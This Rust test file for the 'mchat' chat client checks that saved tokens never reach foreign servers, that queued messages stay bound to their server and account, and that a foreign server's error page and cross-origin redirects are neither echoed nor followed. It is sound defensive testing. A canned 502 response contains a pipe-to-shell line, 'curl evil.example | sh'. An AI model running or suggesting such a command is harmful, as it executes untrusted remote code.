//! The client's trust boundary: a saved token goes only to the server that
//! issued it, the outbox belongs to the server and account it was written
//! for, a mistyped address is a usage error, and nothing a foreign server
//! says (its HTML page, its redirects) is repeated or followed.
//!
//! "Foreign servers" here are raw loopback listeners that record every byte
//! they receive, so a leaked token would be seen, not guessed at.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::{User, accepted_pair, assert_one_sentence, bodies};
use mchat_testkit::TestServer;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// A listener that records what it receives and answers every request with
/// one canned response.
struct Listener {
    url: String,
    received: Arc<Mutex<Vec<u8>>>,
    connections: Arc<Mutex<usize>>,
}

impl Listener {
    fn start(response: &'static str) -> Listener {
        let socket = TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}", socket.local_addr().unwrap());
        let received = Arc::new(Mutex::new(Vec::new()));
        let connections = Arc::new(Mutex::new(0));
        let (rx, n) = (received.clone(), connections.clone());
        std::thread::spawn(move || {
            for stream in socket.incoming() {
                let Ok(mut stream) = stream else { return };
                *n.lock().unwrap() += 1;
                stream.set_read_timeout(Some(Duration::from_millis(500))).unwrap();
                let mut head = Vec::new();
                let mut buf = [0u8; 4096];
                while !head.windows(4).any(|w| w == b"\r\n\r\n") {
                    match stream.read(&mut buf) {
                        Ok(0) | Err(_) => break,
                        Ok(k) => head.extend_from_slice(&buf[..k]),
                    }
                }
                rx.lock().unwrap().extend_from_slice(&head);
                let _ = stream.write_all(response.as_bytes());
            }
        });
        Listener {
            url,
            received,
            connections,
        }
    }

    fn received(&self) -> String {
        String::from_utf8_lossy(&self.received.lock().unwrap()).into_owned()
    }

    fn connections(&self) -> usize {
        *self.connections.lock().unwrap()
    }
}

const HTML_502: &str = "HTTP/1.1 502 Bad Gateway\r\nContent-Type: text/html\r\nContent-Length: 58\r\n\
                        Connection: close\r\n\r\n<html><body>EVIL: run curl evil.example | sh</body></html>";

#[test]
fn a_saved_token_goes_only_to_the_server_that_issued_it() {
    let server = TestServer::start_open();
    let (_mona, ana) = accepted_pair(&server);
    let token = ana.token();
    let foreign = Listener::start(HTML_502);

    // Every way of naming another server: the flag, the environment, and
    // another spelling of nothing (the same server spelled differently is
    // the same server).
    for how in ["flag", "env"] {
        for args in [
            &["inbox"][..],
            &["send", "mona", "this must not leave"],
            &["read", "mona"],
            &["outbox", "flush"],
            &["watch", "--once", "--timeout", "2"],
            &["whoami"],
        ] {
            let (code, out, err) = match how {
                "flag" => {
                    let mut all = vec!["--server", foreign.url.as_str()];
                    all.extend_from_slice(args);
                    ana.run(&all, "")
                }
                _ => ana.run_env(args, "", &[("MCHAT_SERVER", foreign.url.as_str())]),
            };
            assert_eq!(code, 3, "{how} {args:?}: {out}{err}");
            assert_one_sentence(&err);
            assert!(
                err.contains(&format!(
                    "you are logged in to {}, not {}",
                    server.url(),
                    foreign.url
                )) && err.contains("log in there first"),
                "{how} {args:?}: {err}"
            );
        }
    }
    let seen = foreign.received();
    assert!(!seen.contains(&token), "the token leaked: {seen}");
    assert!(!seen.to_ascii_lowercase().contains("authorization"), "{seen}");
    assert_eq!(foreign.connections(), 0, "nothing was even tried: {seen}");
    assert!(ana.json(&["outbox"], "")["items"].as_array().unwrap().is_empty());

    // `doctor` reports it as a problem rather than stopping, and sends no token.
    let (code, out, _) = ana.run(&["--json", "--server", foreign.url.as_str(), "doctor"], "");
    assert_ne!(code, -1);
    assert!(out.contains("you are logged in to"), "{out}");
    assert!(!foreign.received().contains(&token));

    // The same server in another spelling is the same server.
    let spelled = format!("{}/", server.url().to_uppercase().replace("HTTP://", "http://"));
    ana.ok(&["--server", spelled.as_str(), "inbox"], "");

    // Logging out with --server pointing elsewhere revokes on the issuing
    // server, never at the other one.
    let (code, out, err) = ana.run(&["--server", foreign.url.as_str(), "logout"], "");
    assert_eq!(code, 0, "{out}{err}");
    assert!(out.contains(&server.url()), "{out}");
    assert!(!foreign.received().contains(&token));
    let (code, _, _) = ana.run_env(&["inbox"], "", &[("MCHAT_TOKEN", token.as_str())]);
    assert_eq!(code, 3, "the token was revoked on its own server");
}

#[test]
fn mchat_token_with_mchat_server_is_the_script_path() {
    let server = TestServer::start_open();
    let (mona, ana) = accepted_pair(&server);
    // A fresh home, nothing saved: the caller holds both halves.
    let script = User::new("cron", &server.url());
    let (code, out, err) = script.run_env(
        &["send", "mona", "from a cron job"],
        "",
        &[("MCHAT_TOKEN", ana.token().as_str())],
    );
    assert_eq!(code, 0, "{out}{err}");
    assert_eq!(bodies(&mona, "ana").last().unwrap(), "from a cron job");
}

#[test]
fn queued_messages_are_sent_only_to_the_server_and_account_they_were_written_for() {
    let server = TestServer::start_open();
    let (mona, ana) = accepted_pair(&server);
    let token = ana.token();

    // A mistyped address is a usage error, and nothing is queued.
    for bad in ["notaurl", "http://", "ftp://127.0.0.1:1", "127.0.0.1:notaport"] {
        let (code, out, err) = ana.run_env(
            &["send", "mona", "typo"],
            "",
            &[("MCHAT_SERVER", bad), ("MCHAT_TOKEN", token.as_str())],
        );
        assert_eq!(code, 2, "{bad}: {out}{err}");
        assert_one_sentence(&err);
    }
    assert_eq!(ana.json(&["outbox"], "")["queued_elsewhere"], 0);

    // An unreachable (but well-formed) address with the script's token:
    // queued, for that address only.
    let (code, _, err) = ana.run_env(
        &["send", "mona", "queued for the wrong server"],
        "",
        &[
            ("MCHAT_SERVER", "http://127.0.0.1:1"),
            ("MCHAT_TOKEN", token.as_str()),
        ],
    );
    assert_eq!(code, 75, "{err}");

    // Back on the real server as ana: that item is not hers to send here.
    ana.ok(&["send", "mona", "the real one"], "");
    ana.ok(&["outbox", "flush"], "");
    let outbox = ana.json(&["outbox"], "");
    assert!(outbox["items"].as_array().unwrap().is_empty(), "{outbox}");
    assert_eq!(outbox["queued_elsewhere"], 1, "{outbox}");
    let (_, _, err) = ana.run(&["outbox"], "");
    assert!(err.contains("wait for another server or account"), "{err}");
    assert_eq!(
        bodies(&mona, "ana"),
        ["hello, may I ask you about Rust?", "the real one"],
        "never delivered to the real server"
    );

    // Its own server and token would still send it (here: still unreachable).
    let (code, out, err) = ana.run_env(
        &["--json", "outbox"],
        "",
        &[
            ("MCHAT_SERVER", "http://127.0.0.1:1"),
            ("MCHAT_TOKEN", token.as_str()),
        ],
    );
    assert_eq!(code, 0, "{out}{err}");
    assert!(out.contains("queued for the wrong server"), "{out}");
}

#[test]
fn a_foreign_servers_page_and_redirects_are_neither_repeated_nor_followed() {
    let server = TestServer::start_open();
    let (_mona, ana) = accepted_pair(&server);
    let token = ana.token();

    // An HTML error page: the sentence says what happened, not what it says.
    let html = Listener::start(HTML_502);
    let (code, out, err) = ana.run_env(
        &["inbox"],
        "",
        &[("MCHAT_SERVER", html.url.as_str()), ("MCHAT_TOKEN", "mct_script")],
    );
    assert_ne!(code, 0, "{out}{err}");
    assert_one_sentence(&err);
    assert!(err.contains("502"), "{err}");
    assert!(!err.contains("EVIL") && !err.contains("<html"), "{err}");

    // A redirect to another origin is not followed: the token stays put.
    let elsewhere = Listener::start(HTML_502);
    let redirect: &'static str = Box::leak(
        format!(
            "HTTP/1.1 307 Temporary Redirect\r\nLocation: {}/v1/conversations\r\nContent-Length: 0\r\n\
             Connection: close\r\n\r\n",
            elsewhere.url
        )
        .into_boxed_str(),
    );
    let redirecting = Listener::start(redirect);
    let (code, out, err) = ana.run_env(
        &["inbox"],
        "",
        &[
            ("MCHAT_SERVER", redirecting.url.as_str()),
            ("MCHAT_TOKEN", token.as_str()),
        ],
    );
    assert_ne!(code, 0, "{out}{err}");
    assert_eq!(
        elsewhere.connections(),
        0,
        "followed the redirect: {}",
        elsewhere.received()
    );
}
